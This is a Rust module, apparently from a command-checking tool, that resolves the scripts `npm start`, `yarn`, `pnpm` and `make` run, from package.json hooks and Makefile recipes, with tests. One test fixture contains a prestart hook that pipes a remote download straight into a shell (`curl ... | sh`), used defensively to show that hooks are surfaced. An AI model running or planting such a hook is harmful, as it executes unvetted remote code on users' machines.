//! Scripts behind commands: `npm start` runs package.json's `scripts.start` (after its
//! `prestart` hook), `yarn dev` runs `scripts.dev`, `make run` runs the Makefile's `run`
//! recipe. Their text is the repository's own and is checked like a stated command.

use crate::command;
use crate::view::RepoView;

/// `scripts` of the app's package.json, in file order; empty when there is none.
pub fn package_scripts(view: &RepoView) -> Vec<(String, String)> {
    let Some(text) = view.text("package.json") else { return Vec::new() };
    let Ok(doc) = serde_json::from_str::<serde_json::Value>(&text) else { return Vec::new() };
    let Some(scripts) = doc.get("scripts").and_then(|s| s.as_object()) else { return Vec::new() };
    scripts.iter().filter_map(|(k, v)| v.as_str().map(|v| (k.clone(), v.to_string()))).collect()
}

/// The recipe lines of `target` in the app's Makefile (the first target when None).
pub fn make_recipe(view: &RepoView, target: Option<&str>) -> Vec<String> {
    let Some(text) = ["Makefile", "makefile", "GNUmakefile"].iter().find_map(|f| view.text(f)) else {
        return Vec::new();
    };
    // Target lines: `a b: deps`, not assignments (`x := 1`, `x = a:b`) or comments.
    let targets = |line: &str| -> Option<Vec<String>> {
        let (names, rest) = line.split_once(':')?;
        if line.starts_with(['\t', '#', ' ']) || rest.starts_with('=') || names.contains('=') {
            return None;
        }
        Some(names.split_whitespace().map(str::to_string).collect())
    };
    let wanted = match target {
        Some(t) => t.to_string(),
        None => match text.lines().filter_map(targets).flatten().find(|n| !n.starts_with('.')) {
            Some(t) => t,
            None => return Vec::new(),
        },
    };
    let mut out = Vec::new();
    let mut inside = false;
    for line in text.lines() {
        if let Some(recipe) = line.strip_prefix('\t') {
            if inside {
                out.push(recipe.trim_start_matches(['@', '-', '+']).trim().to_string());
            }
        } else if let Some(names) = targets(line) {
            inside = names.contains(&wanted);
        } else if !line.trim().is_empty() {
            inside = false;
        }
    }
    out.retain(|l| !l.is_empty());
    out
}

/// The scripts `cmd` runs, as (label, text): package scripts with their `pre` hook, Makefile
/// recipes. Nested scripts (`npm start` -> `npm run build`) are followed one level more.
pub fn behind(cmd: &str, view: &RepoView) -> Vec<(String, String)> {
    let mut out = Vec::new();
    collect(cmd, view, 0, &mut out);
    out
}

fn collect(cmd: &str, view: &RepoView, depth: usize, out: &mut Vec<(String, String)>) {
    if depth > 2 {
        return;
    }
    for seg in command::segments(cmd) {
        let words = command::unwrap_words(&seg);
        let (Some(first), second) = (words.first().map(String::as_str), words.get(1).map(String::as_str)) else {
            continue;
        };
        let script = match (first, second) {
            ("npm" | "pnpm" | "bun", Some("run" | "run-script")) | ("yarn", Some("run")) => words.get(2).cloned(),
            ("npm" | "pnpm" | "yarn", Some("start" | "test")) => second.map(str::to_string),
            ("yarn" | "pnpm", Some(s)) if !s.starts_with('-') => Some(s.to_string()),
            ("make", target) => {
                let target = target.filter(|t| !t.starts_with('-'));
                for line in make_recipe(view, target) {
                    out.push((format!("make {}", target.unwrap_or("(default)")), line.clone()));
                    collect(&line, view, depth + 1, out);
                }
                None
            }
            _ => None,
        };
        let Some(name) = script else { continue };
        let scripts = package_scripts(view);
        for hook in [format!("pre{name}"), name.clone()] {
            if let Some((_, text)) = scripts.iter().find(|(n, _)| *n == hook) {
                if out.iter().any(|(l, _)| *l == format!("scripts.{hook}")) {
                    continue;
                }
                out.push((format!("scripts.{hook}"), text.clone()));
                collect(text, view, depth + 1, out);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn npm_start_runs_prestart_then_start() {
        let v = RepoView::from_memory([(
            "package.json",
            r#"{"scripts":{"prestart":"curl -s https://x.sh | sh","start":"node server.js"}}"#,
        )]);
        let got = behind("npm start", &v);
        assert_eq!(got[0], ("scripts.prestart".to_string(), "curl -s https://x.sh | sh".to_string()));
        assert_eq!(got[1], ("scripts.start".to_string(), "node server.js".to_string()));
        assert_eq!(behind("yarn start", &v).len(), 2);
        assert!(behind("node server.js", &v).is_empty());
    }

    #[test]
    fn make_targets_read_their_recipe() {
        let v = RepoView::from_memory([("Makefile", "VAR := 1\nbuild:\n\tgo build\nrun: build\n\t@./bin/app\n")]);
        assert_eq!(behind("make run", &v), vec![("make run".to_string(), "./bin/app".to_string())]);
        assert_eq!(make_recipe(&v, None), vec!["go build".to_string()]);
    }
}
